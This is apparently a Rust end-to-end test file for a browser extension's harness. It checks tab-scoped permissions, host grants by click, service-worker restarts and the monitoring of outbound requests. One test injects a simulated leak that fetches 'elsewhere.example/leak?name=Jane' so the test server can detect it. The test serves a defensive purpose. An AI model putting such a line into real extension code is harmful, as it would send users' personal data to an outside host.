//! What the harness itself promises, shown on a probe of a few lines instead of the extension: how the action is invoked, how hosts are
//! granted, how a worker is killed, and that every request is seen.

use std::collections::BTreeSet;
use std::path::PathBuf;

use afterword_e2e::chromium::{Chromium, Options};
use afterword_e2e::firefox::Firefox;
use afterword_e2e::server::{Interview, Server};
use afterword_e2e::wait_until;
use anyhow::Result;

const WEEK: &str = "https://calendar.google.com/calendar/u/0/r/week?event=panel";

fn probe() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/probe"))
}

async fn start() -> Result<(Server, Chromium)> {
    let server = Server::start(Interview::yesterday(afterword::zone::Tz::Europe__Berlin)).await?;
    let browser = Chromium::start(
        &server,
        &Options {
            extension: probe(),
            window: false,
        },
    )
    .await?;
    Ok((server, browser))
}

#[tokio::test(flavor = "multi_thread")]
async fn invoking_the_action_grants_the_tab_and_no_other() -> Result<()> {
    let (_server, browser) = start().await?;
    let other = browser.open("https://calendar.google.com/calendar/u/0/r/week?event=screen").await?;
    let calendar = browser.open(WEEK).await?;
    let popup = browser.click_action(&calendar).await?;
    popup.sees("read: Onsite interview: Alex Miller / Acme - Senior Engineer").await?;
    browser.close(popup).await?;
    // The control: the popup's own page, opened otherwise, in front of a tab on which the action was not invoked.
    browser.front(&other).await?;
    let read =
        "chrome.tabs.query({ active: true }).then(([tab]) => chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => 1 }))";
    let refusal = browser.in_worker(read).await.expect_err("nothing was granted on this tab");
    assert!(refusal.to_string().contains("Cannot access contents"), "{refusal}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn opening_the_popup_by_the_interface_grants_nothing() -> Result<()> {
    let (_server, browser) = start().await?;
    let calendar = browser.open(WEEK).await?;
    browser.front(&calendar).await?;
    browser.in_worker("chrome.action.openPopup()").await?;
    let popup = browser.popup().await?;
    popup.sees("refused: Cannot access contents").await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_is_granted_by_a_click() -> Result<()> {
    let (_server, browser) = start().await?;
    let gmail = browser.open("https://mail.google.com/mail/u/0/").await?;
    browser.allow_host("https://mail.google.com/*").await?;
    let popup = browser.click_action(&gmail).await?;
    // What it read comes above the button, and moves it.
    popup.sees("read:").await?;
    popup.press("Allow").await?;
    popup.sees("granted: true").await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_worker_starts_anew_and_storage_is_read_without_waking_it() -> Result<()> {
    let (_server, browser) = start().await?;
    let calendar = browser.open(WEEK).await?;
    let popup = browser.click_action(&calendar).await?;
    // What it read comes above the button, and moves it.
    popup.sees("read:").await?;
    popup.press("Wake the worker").await?;
    popup.sees("worker: start 1").await?;
    browser.close(popup).await?;
    browser.kill_worker().await?;
    assert_eq!(browser.storage().await?["starts"], 1);
    assert!(!browser.worker_runs().await?, "reading the storage woke the worker");
    let popup = browser.click_action(&calendar).await?;
    popup.sees("read:").await?;
    popup.press("Wake the worker").await?;
    popup.sees("worker: start 2").await?;
    browser.close(popup).await?;
    browser.kill_worker().await?;
    let third = "started.then(() => chrome.storage.local.get('starts')).then(({ starts }) => starts)";
    assert_eq!(browser.in_worker(third).await?, 3, "a worker that sleeps is started");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn every_request_is_seen_and_the_pages_make_no_strange_one() -> Result<()> {
    let (server, browser) = start().await?;
    let gmail = browser.open("https://mail.google.com/mail/u/0/").await?;
    assert_eq!(server.strangers(), [], "before anything strange was done");
    // The answer is not waited for: what counts is that the request is seen.
    let leak = "void fetch('http://elsewhere.example/leak?name=Jane').catch(() => null)";
    browser.in_worker(leak).await?;
    wait_until("the worker's request", async || Ok((!server.strangers().is_empty()).then_some(()))).await?;
    let strange: BTreeSet<String> = server
        .strangers()
        .into_iter()
        .map(|request| request.host + request.path.as_str())
        .collect();
    assert_eq!(strange, BTreeSet::from(["elsewhere.example/leak?name=Jane".to_owned()]));
    drop(gmail);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn firefox_loads_the_add_on_and_the_pages() -> Result<()> {
    let server = Server::start(Interview::yesterday(afterword::zone::Tz::Europe__Berlin)).await?;
    let browser = Firefox::start(&server, &probe(), "probe@afterword.example").await?;
    browser.driver.goto(WEEK).await?;
    browser.sees("Onsite interview: Alex Miller / Acme - Senior Engineer").await?;
    browser.open_own("popup.html").await?;
    browser.sees("Wake the worker").await?;
    browser.close().await
}
